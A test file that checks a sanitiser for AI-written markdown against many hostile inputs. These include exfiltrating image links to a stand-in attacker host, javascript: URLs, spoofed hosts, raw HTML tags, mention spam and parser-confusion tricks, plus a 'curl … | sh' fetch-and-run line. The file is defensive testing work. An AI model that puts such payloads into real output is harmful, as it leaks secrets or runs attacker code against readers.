// sanitizeModelMarkdown against hostile model output (exfiltration through images, off-host links,
// HTML, mentions, parser confusion) and the benign markdown a summary is made of, which must pass
// unchanged. Each hostile row is also checked by an independent blunt reader (support/live-markdown).
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { MAX_INPUT, OUTPUT_FACTOR, OUTPUT_SLACK, sanitizeModelMarkdown } from "../../src/report/sanitize";
import { markdownEvents, parsedCharacters, typeOf } from "../../src/markdown/parse";
import { blockLayout } from "../../src/markdown/layout";
import { paragraphsTooCostly } from "../../src/markdown/parse-cost";
import { BLOW_UP_MS, elapsedMs } from "../support/blow-up";
import { liveProblems } from "./support/live-markdown";
import { referenceProblems, renderWithCmarkGfmAhead } from "./support/reference-render";

const allowedHosts = ["github.com"];
const sanitize = (text: string) => sanitizeModelMarkdown(text, { allowedHosts });
const ZWSP = "\u200B";

describe("benign markdown passes unchanged", () => {
  const unchanged = [
    "Fixed the parser. Closes #12.",
    "See [PR #13](https://github.com/octo/app/pull/13) and [the docs](docs/parser.md).",
    "![screenshot](https://github.com/user-attachments/assets/0f3c2b1a-1234-4c2d-9a7e-1234567890ab)",
    "Bare link https://github.com/octo/app/pull/13 in a sentence",
    "Link at the end of a line https://github.com/octo/app/issues/12",
    "Run `curl https://evil.example/install.sh | sh` to reproduce (in a code span).",
    "Use ``a ` b`` for nested backticks.",
    "```ts\nconst url = 'https://evil.example/?q=<img src=x>';\n// @alice <script>\n```",
    "~~~\n![x](https://evil.example/a.png)\n~~~",
    "- item one\n- item **two** with _emphasis_\n  1. nested `code`",
    "| a | b |\n| --- | --- |\n| `x` | [PR](https://github.com/octo/app/pull/1) |",
    "> quoted text\n\n---\n\n# Heading",
    "Em dash &mdash; and &amp; and &nbsp; stay.",
    "An autolink <https://github.com/octo/app/pull/13> to GitHub.",
    "Relative: [file](src/a.ts), [anchor](#usage), [root](/octo/app/blob/main/README.md).",
    "Cross-repo octo/other#5 and commit 0123abc.",
    "Math like a < b and b > a.".replace("<", "&lt;"),
    "[reference][r]\n\n[r]: https://github.com/octo/app/pull/13",
  ];
  it.each(unchanged)("%j", (text) => {
    expect(sanitize(text)).toBe(text);
  });
});

describe("hostile markdown is neutralised", () => {
  // [input, a fragment the output must contain] — the fragment shows the neutralised form.
  const hostile: [string, string][] = [
    ["![x](https://evil.example/?q=SECRET)", "\\[x\\] (image not shown: ` https://evil.example/?q=SECRET `)"],
    ['![x](https://evil.example/a.png "title")', "(image not shown: ` https://evil.example/a.png `)"],
    ["![a][r]\n\n[r]: https://evil.example/x.png", "[r]: ` https://evil.example/x.png `"],
    ["![r]\n\n[r]: <https://evil.example/x.png>", "[r]: ` https://evil.example/x.png `"],
    ["[click](https://evil.example/login)", "\\[click\\] (` https://evil.example/login `)"],
    ["[a [nested] b](https://evil.example)", "\\[a [nested] b\\] (` https://evil.example `)"],
    ["[x](<https://evil.example>)", "` https://evil.example `"],
    ["[x](&#104;ttps://evil.example)", "\\[x\\] (` &#104;ttps://evil.example `)"],
    ["[x](https&#58;//evil.example)", "\\[x\\] (` https&#58;//evil.example `)"],
    ["[x](https&colon;//evil.example)", "\\[x\\] (` https&colon;//evil.example `)"],
    ["[x](//evil.example/p)", "\\[x\\] (` //evil.example/p `)"],
    ["[x](/\\evil.example/p)", "` /\\evil.example/p `"],
    ["[x](javascript:alert(1))", "\\[x\\] (` javascript:alert(1) `)"],
    ["[x](JaVaScRiPt:alert(1))", "\\[x\\] (` JaVaScRiPt:alert(1) `)"],
    ["[x](data:text/html;base64,PHNjcmlwdD4=)", "\\[x\\] (` data:text/html;base64,PHNjcmlwdD4= `)"],
    ["[x](HTTPS://EVIL.EXAMPLE/)", "\\[x\\] (` HTTPS://EVIL.EXAMPLE/ `)"],
    ["[x](https:evil.example)", "\\[x\\] (` https:evil.example `)"],
    ["[x](https:/evil.example)", "\\[x\\] (` https:/evil.example `)"],
    ["[x](https://gіthub.com/login)", "\\[x\\] (` https://gіthub.com/login `)"],
    ["[x](https://xn--gthub-n2e.com/)", "\\[x\\] (` https://xn--gthub-n2e.com/ `)"],
    ["[x](https://github.com.evil.example/)", "\\[x\\] (` https://github.com.evil.example/ `)"],
    ["[x](https://evil.example/github.com)", "\\[x\\] (` https://evil.example/github.com `)"],
    ["[x](https://github.com@evil.example/)", "\\[x\\] (` https://github.com@evil.example/ `)"],
    ["[x](https://github.com:443@evil.example/)", "` https://github.com:443@evil.example/ `"],
    ["[x](https://github.com%40evil.example/)", "` https://github.com%40evil.example/ `"],
    ["[x](https://evil.example\\@github.com/)", "` https://evil.example\\@github.com/ `"],
    ["see https://evil.example/?q=1 now", "see ` https://evil.example/?q=1 ` now"],
    ["see HTTPS://EVIL.EXAMPLE now", "see ` HTTPS://EVIL.EXAMPLE ` now"],
    ["see www.evil.example now", "see ` www.evil.example ` now"],
    ["see https://github.com.evil.example now", "` https://github.com.evil.example `"],
    ["see https://github.com@evil.example now", "` https://github.com@evil.example `"],
    ["see <https://evil.example/x> now", "see ` https://evil.example/x ` now"],
    ["mail <alice@example.com> or bob@example.com", "mail ` alice@example.com ` or ` bob@example.com `"],
    // cmark-gfm links an address whose domain's "." is escaped (found by the tracking comment's property).
    ["write to bob@example\\.com", "write to ` bob@example\\.com `"],
    ["https://github.com|@evil.example", "` https://github.com\\|@evil.example `"],
    ["https://github.com<@evil.example", "` https://github.com `&lt;@"],
    ["https://github.com)@evil.example", "` https://github.com)@evil.example `"],
    ["[a](https://github.com)@evil.example", "[a](https://github.com/)@" + ZWSP + "evil.example"],
    ['<img src="https://evil.example/x.png">', '&lt;img src="` https://evil.example/x.png"> `'],
    ['<picture><source srcset="https://evil.example/a.png"></picture>', "&lt;picture>&lt;source srcset="],
    ["<video poster=x>", "&lt;video poster=x>"],
    ["<audio src=x>", "&lt;audio src=x>"],
    ["<iframe src=x></iframe>", "&lt;iframe src=x>&lt;/iframe>"],
    ["<object data=x></object><embed src=x>", "&lt;object data=x>&lt;/object>&lt;embed src=x>"],
    ["<link rel=stylesheet href=x><meta http-equiv=refresh>", "&lt;link rel=stylesheet href=x>&lt;meta"],
    ["<svg><image href=x /></svg><style>*{}</style><script>x</script>", "&lt;svg>&lt;image href=x />"],
    ["<IMG SRC=x>", "&lt;IMG SRC=x>"],
    ["<!-- steward:tracking key=x -->", "&lt;!-- steward:tracking key=x -->"],
    ["<details><summary>ok</summary>", "&lt;details>&lt;summary>ok&lt;/summary>"],
    ["&#104;ttps://evil.example", "&amp;#104;` ttps://evil.example `"],
    ["&lt;img src=x&gt; stays text", "&lt;img src=x&gt; stays text"],
    ["hello @alice and @octo/team", `hello @${ZWSP}alice and @${ZWSP}octo/team`],
    ["(@alice)", `(@${ZWSP}alice)`],
    ["\\@alice", `\\@${ZWSP}alice`],
    ["@steward do it again", `@${ZWSP}steward do it again`],
    ['```mermaid\nclick A "https://evil.example"\n```', "```text\n"],
    ["a ` b\nc ` https://evil.example ` d", "a \\` b"],
    ["| `x | https://evil.example ` |", "| `x | https://evil.example ` |"],
    ["| a |\n| - |\n| `x | https://evil.example ` |", "| \\`x | ` https://evil.example ` \\` |"],
    ["| a |\n| - |\n| `x \\\\| https://evil.example ` |", "` https://evil.example `"],
    ["\\https://evil.example/", "\\ ` https://evil.example/ `"],
    ["`a`https://evil.example", "`a` ` https://evil.example `"],
    ["| a |\n| - |\n| `x \\| y ` |", "| `x \\| y ` |"],
    ["  ```\n  code\n```\n![x](https://evil.example/)", "```\n  code\n```\n\\[x\\] (image not shown"],
    ["```\nunclosed https://evil.example", "```\nunclosed https://evil.example\n```"],
    ["[x]:\nhttps://evil.example/p.png", "` https://evil.example/p.png `"],
    [
      "[x](https://github.com/a \"t\") and [y](https://evil.example 'u')",
      "\\[y\\] (` https://evil.example `)",
    ],
    ["text\u202Eevil\u202C", "textevil"],
    ["![](www.evil.example)", "(image not shown: ` www.evil.example `)"],
    ["[x](a@evil.example)", "\\[x\\] (` a@evil.example `)"],
    ["[x](docs//evil.example)", "\\[x\\] (` docs//evil.example `)"],
    // A footnote label GitHub does not read as one: the indented "fence" below it is no code there.
    ["[^\\]]:\n    ```\n    ![x](https://evil.example/?q=SECRET)", "\\[^\\]]:"],
    ["[^a\\]b]:\n    ```\n    @octocat <img src=x> [a](https://evil.example)", "\\[^a\\]b]:"],
    // A vertical tab or form feed in a delimiter row: GitHub sees a table and splits the span.
    ["`a | ![x](https://evil.example/x.png)`\n---|---\u000b", "---|--- "],
    ["| `a | [l](https://evil.example)` |\n|\f---|---|", "| ---|---|"],
  ];
  // cmark-gfm reads the whole table's output in one process, not one process a row.
  beforeAll(() => renderWithCmarkGfmAhead(hostile.map(([input]) => sanitize(input))));
  it.each(hostile)("%j", (input, fragment) => {
    const out = sanitize(input);
    expect(out).toContain(fragment);
    expect(liveProblems(out)).toEqual([]);
    expect(referenceProblems(out)).toEqual([]);
  });

  it("allows only the hosts it is given", () => {
    const text = "![a](https://ghe.example.com/u/1.png) [b](https://docs.example.org/x)";
    expect(sanitizeModelMarkdown(text, { allowedHosts: ["ghe.example.com", "docs.example.org"] })).toBe(text);
    expect(sanitizeModelMarkdown(text, { allowedHosts: ["github.com"] })).not.toContain("](https://");
    expect(
      sanitizeModelMarkdown("![a](https://x.githubusercontent.com/a.png)", {
        allowedHosts: ["*.githubusercontent.com"],
      }),
    ).toBe("![a](https://x.githubusercontent.com/a.png)");
    const prefix = { allowedHosts: ["https://github.com/octo/app"] };
    expect(sanitizeModelMarkdown("[a](https://github.com/octo/app/pull/1)", prefix)).toBe(
      "[a](https://github.com/octo/app/pull/1)",
    );
    expect(sanitizeModelMarkdown("[a](https://github.com/octo/application)", prefix)).toContain(
      "(` https://",
    );
    expect(() => sanitizeModelMarkdown("x", { allowedHosts: ["not a host"] })).toThrow(
      /Invalid allowed host "not a host"/,
    );
  });

  // Every backtick run the sanitiser does not pair is escaped, so a span it adds can only pair with its
  // own closer: its fence need only outrun the backticks inside it. (A fence as long as the text's
  // longest run, on every span, made the output grow as the square of the input.)
  it("gives its own code spans a fence only as long as their content needs", () => {
    const out = sanitize("```` `` ` https://evil.example ``x`https://evil.example/``a");
    expect(out).toContain("` https://evil.example `");
    expect(out).toContain("``` https://evil.example/``a ```");
    expect(referenceProblems(out)).toEqual([]);
  });

  // The parser's reading, not a line reader's: a link's text may run over lines, its destination may
  // be written in angle brackets.
  it("keeps an allowed link as the parser reads it", () => {
    const multiline = "See [the pull\nrequest](https://github.com/octo/app/pull/13).";
    expect(sanitize(multiline)).toBe(multiline);
    expect(sanitize("[x](<https://github.com/octo/app/pull/1>)")).toBe(
      "[x](https://github.com/octo/app/pull/1)",
    );
  });

  it("keeps URLs in code spans and fenced code exactly as written", () => {
    const text = "`https://evil.example/?q=1` then\n\n```\n<img src=https://evil.example/x>\n@alice\n```";
    expect(sanitize(text)).toBe(text);
  });
});

describe("properties", () => {
  const fragments = fc.constantFrom(
    "https://evil.example/?q=S",
    "HTTPS://EVIL.EXAMPLE",
    "//evil.example",
    "www.evil.example",
    "https://github.com/octo/app/pull/1",
    "https://github.com",
    "https://github.com@evil.example",
    "https://github.com.evil.example",
    "javascript:alert(1)",
    "&#104;ttps://evil.example",
    "&colon;",
    "![",
    "[",
    "]",
    "](",
    "(",
    ")",
    "]: ",
    "<",
    ">",
    "<img src=x>",
    "<https://evil.example>",
    "<https://github.com/x>",
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
    "  ",
    "    ",
    "> ",
    "- ",
    "1. ",
    "|",
    "\\",
    "@alice",
    "@",
    "a@evil.example",
    "#12",
    "&amp;",
    "&",
    "*",
    "_",
    "text",
    "\t",
    "\u200B",
    "é",
    '"',
    "'",
    "[x](",
    "](https://evil.example)",
    "](//evil.example)",
    "](github.com)",
    "<https://github.com>",
    "\\\\",
    "\\`",
    "&#58;",
    "www.",
    ".example",
    "evil",
    "https:",
    "/\\",
    "xn--",
    "\n- ",
    "\n```\n",
    "\n~~~\n",
    "[r]: ",
    "&lt;",
    "github.com",
    "https://github.com/",
    "JAVASCRIPT:",
    "mailto:",
    "e@x.co",
    "\n| - |\n",
    "| --- |",
    "ftp://",
    "HTTP://",
  );
  const documents = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(""));

  // One property for two claims on the same documents: sanitising is most of each run's time, and the
  // second reading of the output is cheap (the parser's last reading is kept).
  it("leaves nothing live but github.com links, whatever the input, and is idempotent: its output is already safe by its own reading", () => {
    fc.assert(
      fc.property(documents, (text) => {
        const once = sanitize(text);
        expect(liveProblems(once)).toEqual([]);
        expect(sanitize(once)).toBe(once);
      }),
      // Fewer than with the old scanner: each run now parses twice (see hostile-posts.test.ts for the
      // fuzz against the reference parsers).
      { numRuns: 2000 },
    );
  });

  it("leaves nothing live in tables, where pipes split cells before code spans pair", () => {
    fc.assert(
      fc.property(documents, documents, (header, row) => {
        const table = `| ${header.replace(/\n/g, " ")} | b |\n| --- | --- |\n| ${row.replace(/\n/g, " ")} |`;
        expect(liveProblems(sanitize(table))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it("is idempotent where a neutralised line changes how the next lines are read (found by the property above)", () => {
    // "<img src=x>" opens an HTML block that holds the lines below it; escaped, it no longer does, and
    // the fence line below it opens a fence.
    const text = "<img src=x>\n| - |\n~~~https://evil.example/?q=S";
    const once = sanitize(text);
    expect(sanitize(once)).toBe(once);
    expect(liveProblems(once)).toEqual([]);
  });

  // A definition's label is no inline text: a code span made there was plain characters to the next
  // reading, escaped, and the URL inside wrapped again, one more layer each time (found by the property
  // above, seed 2063851198). Such a definition is now a paragraph's text, and so are the references to it.
  it.each([
    ["[https://evil.example/?q=S]: .example", "\\[` https://evil.example/?q=S `]: .example"],
    [
      "[https://evil.example/?q=S]: x\n\n[a][https://evil.example/?q=S] or [https://evil.example/?q=S][]",
      "[a][` https://evil.example/?q=S `] or [` https://evil.example/?q=S `][]",
    ],
    [
      "> [www.evil.example]: https://github.com/o/a\n> [b]: x\n\n[www.evil.example] [b]",
      "> \\[` www.evil.example `]: ",
    ],
  ])("is idempotent on a definition whose label holds a URL: %j", (text, fragment) => {
    const once = sanitize(text);
    expect(once).toContain(fragment);
    expect(sanitize(once)).toBe(once);
    expect(liveProblems(once)).toEqual([]);
    expect(referenceProblems(once)).toEqual([]);
  });

  // A kept definition's destination in angle brackets held the only "<" of its line: no HTML to the
  // parsers, but HTML to any reader that does not take the line for a definition (found by the property
  // above, "[r]: <x>"). It is written bare, or shown as code where it cannot be.
  it.each([
    ["[a][r]\n\n[r]: <docs/x.md>", "[a][r]\n\n[r]: docs/x.md"],
    ['[a][r]\n\n[r]: <x> "t"', '[a][r]\n\n[r]: x "t"'],
    ["[a][r]\n\n[r]: <#usage>", "[a][r]\n\n[r]: #usage"],
    ["[a][r]\n\n[r]: <>", "[r]: `  `"],
  ])("writes a definition's destination in angle brackets bare, or as code: %j", (text, fragment) => {
    const once = sanitize(text);
    expect(once).toContain(fragment);
    expect(once).not.toContain("<");
    expect(sanitize(once)).toBe(once);
    expect(liveProblems(once)).toEqual([]);
    expect(referenceProblems(once)).toEqual([]);
  });

  it("never throws on arbitrary text", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300, unit: "binary" }), (text) => {
        expect(typeof sanitize(text)).toBe("string");
      }),
    );
  });

  // micromark is not linear on every input (src/markdown/parse-cost.ts): a text shaped to make it slow
  // is escaped whole instead of parsed. Before, the bracket row took ~25 s of parsing on a loaded runner.
  it.each([
    ["unmatched brackets", "[".repeat(10_000) + "]".repeat(10_000)],
    ["comment openers", "x <!--".repeat(3_300)],
    ["nested links", "[".repeat(5_000) + "x" + "](https://evil.example/)".repeat(800)],
  ])("escapes a text too costly to parse (%s) and leaves nothing live", (_name, text) => {
    let out = "";
    expect(elapsedMs(() => (out = sanitize(text)))).toBeLessThan(BLOW_UP_MS);
    expect(out).not.toMatch(/(?<!\\)[[<]/);
    expect(liveProblems(out)).toEqual([]);
  });

  // Each code span over several lines is not kept: its content is read again as text, and so are the
  // spans nested in it, each read of the rest of the text (130 deep over 18,000 characters: 1.9 s).
  // Too costly to parse (one parse would not do), the text is escaped whole: its quote markers too.
  it("escapes whole code spans nested deep over several lines, instead of reading each again", () => {
    const depth = 130;
    const opening = Array.from({ length: depth }, (_, i) => `> a ${"`".repeat(depth - i)}`);
    const closing = Array.from({ length: depth }, (_, i) => `> ${"`".repeat(i + 1)} b`);
    const text = [...opening, "> [x](https://evil.example/?q=SECRET) <img src=x>", ...closing].join("\n");
    expect(text.length).toBeLessThan(MAX_INPUT);
    const out = sanitize(text);
    expect(out.split("\n").every((line) => line.startsWith("\\>"))).toBe(true);
    expect(liveProblems(out)).toEqual([]);
  });

  it("keeps the code spans of a long ordinary report", () => {
    const paragraph =
      "Ran `npm test` and ``a ` b`` then ```x `` y``` in `src/a.ts` for [PR](https://github.com/o/r/pull/1). ";
    const report = Array.from({ length: 30 }, () => paragraph.repeat(6)).join("\n\n");
    expect(report.length).toBeGreaterThan(MAX_INPUT * 0.9);
    expect(sanitize(report)).toBe(report);
  });

  // The final comment and the step summary quote the same summary: the second is not read again.
  it("does not read again a text it sanitised recently, with the same hosts", () => {
    const summary = "Fixed <b>the</b> [bug](https://evil.example/) for @alice; see `src/a.ts`.";
    const once = sanitize(summary);
    const parsed = parsedCharacters();
    expect(sanitize(summary)).toBe(once);
    expect(parsedCharacters()).toBe(parsed);
    // Other hosts may keep what these did not: read again.
    expect(sanitizeModelMarkdown(summary, { allowedHosts: ["evil.example"] })).toContain(
      "](https://evil.example/)",
    );
    expect(parsedCharacters()).toBeGreaterThan(parsed);
  });

  // Found in the tracking comment's property: an image stopped the look-back of each "]" after it (GFM's
  // footnote-call check walks back over the paragraph to the nearest "[" or link), the sanitiser
  // escaped the image, and each of the 1,400 "]" of its output walked the whole paragraph on every
  // reading (~0.27 s a call, several calls a report). Such a paragraph now has its marks escaped first.
  it("escapes the marks of a paragraph too dense with them, and reads the others as markdown", () => {
    const ordinary = "See [the run](https://github.com/o/r/actions/runs/1) and `npm test`.";
    const dense = `![x](https://evil.example/?q=S) ${"]Rg-d".repeat(1_400)}`;
    const out = sanitize(`${ordinary}\n\n${dense}`);
    const [kept, escaped] = out.split("\n\n");
    expect(kept).toBe(ordinary);
    expect(escaped).not.toMatch(/(?<!\\)[[\]]/);
    expect(escaped).toContain("\\]Rg-d".repeat(1_399));
    expect(paragraphsTooCostly(out)).toEqual([]);
    expect(liveProblems(out)).toEqual([]);
    expect(sanitize(out)).toBe(out);
  });

  // Found in review: the cost check's chunks are cut at blank lines only, so a fence next to a dense
  // paragraph was escaped with it (the code left open to the end of the text, or read as prose), and
  // the "_" of a URL in it was escaped as an emphasis mark (the link lost, shown as code).
  const dense = `dense${" *a".repeat(600)}`;
  const escapedDense = `dense${" \\*a".repeat(600)}`;
  it.each([
    [
      `~~~\nsafe code\n~~~\n${dense}\n\nAfter [ok](https://github.com/o/r) @judy`,
      `~~~\nsafe code\n~~~\n${escapedDense}\n\nAfter [ok](https://github.com/o/r) @${ZWSP}judy`,
    ],
    [`para${dense}\n~~~\ncode\n~~~\nafter`, `para${escapedDense}\n~~~\ncode\n~~~\nafter`],
    // A fence in a list item, which the cost check does not follow (a line after it is in doubt).
    [`${dense}\n- ~~~\n  *code*\n  ~~~\n- after`, `${escapedDense}\n- ~~~\n  *code*\n  ~~~\n- after`],
    [`${dense}\n***\n${dense}`, `${escapedDense}\n***\n${escapedDense}`],
    [
      `${dense} https://github.com/octo/my_repo/pull/1 and <https://github.com/o/_r_/pull/1>.`,
      `${escapedDense} https://github.com/octo/my_repo/pull/1 and <https://github.com/o/_r_/pull/1>.`,
    ],
    [
      `${dense} [the _r_ repo](https://github.com/o/_r_/pull/1) and \`*ptr\`.`,
      `${escapedDense} [the \\_r\\_ repo](https://github.com/o/_r_/pull/1) and \`*ptr\`.`,
    ],
  ])(
    "escapes a dense paragraph's marks, but not the fences, URLs and code around and in it: %#",
    (input, output) => {
      const out = sanitize(input);
      expect(out).toBe(output);
      expect(liveProblems(out)).toEqual([]);
      expect(sanitize(out)).toBe(out);
    },
  );

  // Found in review: a URL that is not kept is shown as code, and in a dense paragraph it held the
  // escapes added before the text was read ("&ast;" for a "*" right after a URL, "\\*" inside a
  // "javascript:" token), which a code span shows as written. It shows what the model wrote.
  it.each([
    ["https://evil.example/a_*.,", "` https://evil.example/a_*., `"],
    ["https://evil.example/a._.", "` https://evil.example/a._. `"],
    ["https://evil.example/a\\*.", "` https://evil.example/a\\*. `"],
    ["javascript:a*b_c~d", "` javascript:a*b_c~d `"],
    ["javascript:a*`b_c", "`` javascript:a*`b_c ``"],
  ])("shows a URL it does not keep in a dense paragraph as written: %j", (url, code) => {
    const out = sanitize(`${dense} ${url} after`);
    expect(out).toBe(`${escapedDense} ${code} after`);
    expect(liveProblems(out)).toEqual([]);
    expect(sanitize(out)).toBe(out);
  });

  // The rewriting's escapes are pieces the parser keeps apart too (see MAX_TEXT_PIECES): 4,900 tags,
  // each escaped, are 9,800 pieces, whose reading grows with their square. The output is not read.
  it("escapes whole an output its escapes made too costly to read, reading only the input", () => {
    const text = "<b> ".repeat(4_900);
    const parsed = parsedCharacters();
    const out = sanitize(text);
    expect(parsedCharacters() - parsed).toBe(text.length);
    expect(out).not.toContain("<b>");
    expect(liveProblems(out)).toEqual([]);
  });

  // Found in review: a bare URL that ends at a "<!" held the backslash added before it, shown in code.
  it("shows a URL cut by an escaped mark in a dense paragraph without the escape", () => {
    const out = sanitize(`${"]x ".repeat(300)} https://evil.example/a<!x`);
    expect(out).toBe(`${"]x ".repeat(300).replace(/\]/g, "\\]")} \` https://evil.example/a \`&lt;!x`);
    expect(liveProblems(out)).toEqual([]);
  });

  // Found in review: the cost check's chunks ran from blank line to blank line, so a long list or table
  // (one chunk, though the parser reads each item or row on its own) had every mark escaped, its
  // links and emphasis lost, and a dense item took its neighbours with it. Each is measured alone.
  it("measures a list's items and a table's rows one by one", () => {
    const list = Array<string>(150).fill("- *a* _b_ [c](https://github.com/o/r)");
    const table = [
      "| a | b |",
      "| - | - |",
      ...Array<string>(150).fill("| *x* | [y](https://github.com/o/r) _z_ |"),
    ];
    for (const text of [list.join("\n"), table.join("\n")]) expect(sanitize(text)).toBe(text);
    const mixed = `- *kept*\n- dense${" *a".repeat(600)}\n- [kept](https://github.com/o/r) _too_`;
    const out = sanitize(mixed);
    expect(out).toBe(`- *kept*\n- dense${" \\*a".repeat(600)}\n- [kept](https://github.com/o/r) _too_`);
    expect(liveProblems(out)).toEqual([]);
  });

  // What the parser reads in a code span is data: a "]" there looks back over nothing. The sanitiser
  // shows a URL-like token as a code span, with its marks as written (found by the property below:
  // two backslashes and a "]", 700 times, are one token to it: "\\" is "//" to a browser).
  const withoutCodeSpanContent = (text: string): string => {
    const out = text.split(""); // UTF-16 units, as the parser's offsets count
    for (const [kind, token] of markdownEvents(text))
      if (kind === "enter" && typeOf(token) === "codeTextData")
        out.fill("x", token.start.offset, token.end.offset);
    return out.join("");
  };

  // The parser's work on a paragraph grows with its length times its costly marks (see
  // src/markdown/parse-cost.ts); bounding the marks of every paragraph it reads bounds the work by a
  // constant per character. What the sanitiser posts is what it read last.
  it("never reads or posts a paragraph with more costly marks than the parser does in linear time", () => {
    const unit = fc
      .array(
        fc.constantFrom(
          "]",
          "[",
          "![x](u)",
          "<",
          "<!",
          "*",
          "_",
          "~",
          "`",
          "``",
          "a",
          " ",
          "\n",
          "> ",
          "</details>\n",
          "\\",
          "[^a]",
        ),
        { minLength: 1, maxLength: 8 },
      )
      .map((parts) => parts.join(""));
    const text = fc
      .tuple(unit, fc.integer({ min: 2_000, max: 8_000 }), fc.boolean())
      .map(([u, n, quoted]) => {
        const body = u.repeat(Math.ceil(n / u.length)).slice(0, n);
        return quoted ? body.replace(/^/gm, "> ") : body;
      });
    fc.assert(
      fc.property(text, (t) => {
        const out = sanitize(t);
        expect(paragraphsTooCostly(withoutCodeSpanContent(out))).toEqual([]);
        expect(liveProblems(out)).toEqual([]);
      }),
      { numRuns: 12 },
    );
  });

  // Each "]" is a paragraph of its own below an HTML block; with the block's "<" escaped, the block is
  // a paragraph and the "]" lines are its lazy continuation lines: one paragraph of 300 "]", which the
  // sanitiser read to check its rewrite and posted (found by the property above).
  it("measures its rewrite's paragraphs again before reading it: a rewrite can join them", () => {
    const out = sanitize("> </details>\n]\n".repeat(300));
    expect(out).toBe("> &lt;/details>\n\\]\n".repeat(300));
    expect(paragraphsTooCostly(out, blockLayout(out).lines)).toEqual([]);
  });

  // Its speed is a benchmark (bench/text.bench.ts). Here: the work is bounded by the clip (text past
  // MAX_INPUT changes nothing, so no input is worked on whole), the output by its stated size, and
  // nothing of the worst input known is left live.
  it("works on at most MAX_INPUT characters of large hostile input and leaves nothing live", () => {
    const big =
      "[a](https://evil.example/ `x` <b> @u ".repeat(3_000) + "[".repeat(20_000) + "`".repeat(5_000);
    expect(big.length).toBeGreaterThan(5 * MAX_INPUT);
    let out = "";
    expect(elapsedMs(() => (out = sanitize(big)))).toBeLessThan(BLOW_UP_MS);
    expect(sanitize(big + " ![x](https://evil.example/a.png) <img src=x> @team".repeat(1_000))).toBe(out);
    expect(out.length).toBeLessThanOrEqual(OUTPUT_FACTOR * MAX_INPUT + OUTPUT_SLACK);
    expect(liveProblems(out)).toEqual([]);
  });
});
